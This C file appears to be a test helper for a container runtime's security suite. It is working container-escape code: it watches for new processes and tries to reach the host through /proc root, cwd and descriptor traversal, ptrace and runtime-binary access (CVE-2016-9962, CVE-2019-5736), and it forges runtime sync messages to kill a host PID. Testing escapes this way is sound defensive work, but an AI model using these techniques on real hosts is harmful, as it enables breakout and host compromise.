/*
 * Runs inside a container and lies in wait for every new process of its pid namespace: what another
 * runtime's exec (CVE-2016-9962) or a container that shares the namespace brings in. From each it
 * tries to get the host: its root, its working directory, its descriptors, by ptrace.
 *
 *   attack-trace reach SECONDS PATH     through any of these, writes to PATH of the host
 *   attack-trace gain SECONDS PATH      the same, and looks for capabilities that we do not have,
 *                                       the filter that we do, the runtime's environment
 *   attack-trace forge SECONDS PID      takes the socket to the runtime out of it and tells the
 *                                       runtime that the process it started is the host's PID, and
 *                                       that it failed: one that believes this ends PID
 *   attack-trace forge SECONDS keep     takes it and keeps it, as long as we are there
 *   attack-trace victim PATH            a careless runtime: waits with the host's root open
 *
 * Prints "ready", then a line for each success.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "runtime/init/sync.h"

#define FDS 24
#define UP "/../../../../../../../../../../../.."

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The pid that was given last in this namespace (proc_loadavg(5)). */
static pid_t newest(void)
{
	static int fd = -1;
	char text[128], *last;
	ssize_t n;

	if (fd < 0)
		fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	n = pread(fd, text, sizeof(text) - 1, 0);
	text[n < 0 ? 0 : n] = 0;
	last = strrchr(text, ' ');
	return last ? atoi(last) : 0;
}

static bool write_there(const char *path, const char *what)
{
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

	if (fd < 0)
		return false;
	if (write(fd, "taken\n", 6) != 6)
		return false;
	close(fd);
	printf("reached the host by %s\n", what);
	return true;
}

struct rights {
	unsigned long long capabilities, filter;
	bool alive;
};

static unsigned long long number_of(const char *text, const char *key, int base)
{
	const char *at = strstr(text, key);

	return at ? strtoull(at + strlen(key), NULL, base) : 0;
}

/* From one reading of /proc/PID/status: a zombie has no filter any more. */
static struct rights rights_of(pid_t pid)
{
	char path[64], text[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? 0 : read(fd, text, sizeof(text) - 1);
	close(fd);
	text[n < 0 ? 0 : n] = 0;
	return (struct rights){
		.capabilities = number_of(text, "CapPrm:", 16) | number_of(text, "CapBnd:", 16),
		.filter = number_of(text, "Seccomp:", 10),
		.alive = n > 0 && !strstr(text, "State:\tZ") && !strstr(text, "State:\tX"),
	};
}

/* More than we have ourselves: who traces it takes that over. */
static bool has_more(pid_t pid)
{
	struct rights ours = rights_of(getpid()), theirs = rights_of(pid);

	if (!theirs.alive)
		return false;
	if (theirs.capabilities & ~ours.capabilities) {
		printf("found the capabilities %#llx\n", theirs.capabilities & ~ours.capabilities);
		return true;
	}
	if (theirs.filter < ours.filter) {
		puts("found a process without the filter");
		return true;
	}
	return false;
}

/* The runtime's environment, with whatever its caller has in it. */
static bool reads_environment(pid_t pid)
{
	char path[64], text[65536];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? 0 : read(fd, text, sizeof(text));
	close(fd);
	if (n <= 0 || !memmem(text, (size_t)n, "MRUN_TEST_MARK=", 15))
		return false;
	puts("read the runtime's environment");
	return true;
}

/* One try at everything. */
static bool reach(pid_t pid, const char *target)
{
	char path[4096], link[64];
	bool got = false;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/root%s", (int)pid, target);
	got |= write_there(path, "root");
	snprintf(path, sizeof(path), "/proc/%d/cwd" UP "%s", (int)pid, target);
	got |= write_there(path, "cwd");
	for (int fd = 0; fd < FDS; fd++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d" UP "%s", (int)pid, fd, target);
		got |= write_there(path, "a descriptor");
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	n = readlink(path, link, sizeof(link) - 1);
	link[n < 0 ? 0 : n] = 0;
	/* The shim is the container's already; the runtime itself must not be. */
	if (n > 0 && link[0] == '/' && strstr(link, "/mrun") &&
	    ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		printf("traced %s\n", link);
		ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
		got = true;
	}
	if (n > 0 && strstr(link, "/mrun") && (n = open(path, O_RDONLY | O_CLOEXEC)) >= 0) {
		/* Later, when nobody executes it any more, it can be opened for writing through the
		 * descriptor (CVE-2019-5736). */
		printf("opened %s\n", link);
		close((int)n);
		got = true;
	}
	return got;
}

/* As the process in between says it, then as an error that ends the set-up (sync.c). */
static void say(int fd, pid_t victim)
{
	static struct {
		char tag;
		char error[sizeof(struct error)];
	} last = { .tag = SYNC_ERROR };
	char pid[1 + sizeof(pid_t)] = { SYNC_PID };

	memcpy(pid + 1, &victim, sizeof(victim));
	send(fd, pid, sizeof(pid), 0);
	send(fd, &last, sizeof(last), 0);
}

static bool forge(int pidfd, const char *victim)
{
	for (int n = 3; n < FDS; n++) {
		socklen_t len = sizeof(int);
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0), type = 0;

		if (fd < 0 && errno == EPERM)
			return false;
		if (fd < 0)
			continue;
		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) == 0 &&
		    type == SOCK_SEQPACKET) {
			if (strcmp(victim, "keep") == 0) {
				puts("kept");
				return true;
			}
			say(fd, atoi(victim));
			puts("sent");
			return true;
		}
		close(fd);
	}
	return false;
}

static int victim(const char *path)
{
	if (open(path, O_RDONLY | O_DIRECTORY) < 0)
		return 1;
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	bool forging = argc == 4 && strcmp(argv[1], "forge") == 0;
	bool gaining = argc == 4 && strcmp(argv[1], "gain") == 0;
	double end = now() + (argc == 4 ? atof(argv[2]) : 0);
	pid_t next = getpid() + 1;

	if (argc == 3 && strcmp(argv[1], "victim") == 0)
		return victim(argv[2]);
	if (argc != 4)
		return 2;
	setvbuf(stdout, NULL, _IONBF, 0);
	puts("ready");
	while (now() < end) {
		pid_t last = newest();

		for (pid_t p = next; p <= last; p++) {
			/* A pid is given away a moment before its process can be found. */
			double born = now() + 0.002, until = now() + 0.5;
			int pidfd;

			do
				pidfd = (int)syscall(SYS_pidfd_open, p, 0);
			while (pidfd < 0 && now() < born);
			next = p + 1;
			if (pidfd < 0)
				continue;
			while (now() < until && now() < end && kill(p, 0) == 0)
				if (forging ? forge(pidfd, argv[3])
					    : (gaining && (has_more(p) || reads_environment(p))) ||
						      reach(p, argv[3]))
					break;
			close(pidfd);
		}
	}
	return 0;
}
